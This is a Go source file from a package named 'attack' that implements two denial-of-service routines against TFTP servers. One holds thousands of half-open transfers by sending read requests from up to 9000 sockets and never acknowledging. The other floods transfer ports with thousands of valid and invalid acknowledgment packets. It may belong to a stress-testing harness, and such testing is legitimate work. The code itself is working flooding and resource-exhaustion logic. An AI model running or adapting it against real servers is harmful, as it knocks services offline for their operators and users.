package attack

import (
	"context"
	"math/rand/v2"
	"net"
	"sync"
)

// mostSockets bounds the sockets of attackers, whose process has a limit of descriptors too.
const mostSockets = 9000

// tftpHalfOpen asks for a file from thousands of ports, and acknowledges nothing. The sockets stay open, since a closed one
// would tell the server that nobody is there.
func tftpHalfOpen(ctx context.Context, f *Field) error {
	begun, ports := f.count("transfers"), f.tftpPorts()
	var mutex sync.Mutex
	var held []*net.UDPConn
	defer func() {
		for _, socket := range held {
			socket.Close()
		}
	}()
	crew(ctx, 4, func(r *rand.Rand) {
		socket, err := udp()
		if err != nil {
			rest(ctx, dialTime)
			return
		}
		mutex.Lock()
		held = append(held, socket)
		full := len(held) >= mostSockets
		mutex.Unlock()
		_, _ = socket.WriteTo(request(itl), ports[r.IntN(len(ports))])
		begun.Add(1)
		if full {
			<-ctx.Done()
		}
	})
	return nil
}

// tftpAcknowledgments floods the ports of transfers with acknowledgments, right and wrong ones.
func tftpAcknowledgments(ctx context.Context, f *Field) error {
	sent, ports := f.count("packets"), f.tftpPorts()
	onSockets(ctx, 2, func(r *rand.Rand, socket *net.UDPConn) {
		_, _ = socket.WriteTo(request(itl), ports[r.IntN(len(ports))])
		answer := make([]byte, 2048)
		_ = socket.SetReadDeadline(soon())
		_, from, err := socket.ReadFrom(answer)
		if err != nil {
			return
		}
		for range 5000 {
			_, _ = socket.WriteTo([]byte{0, acknowledgment, 0, byte(r.IntN(4))}, from)
			sent.Add(1)
		}
	})
	return nil
}
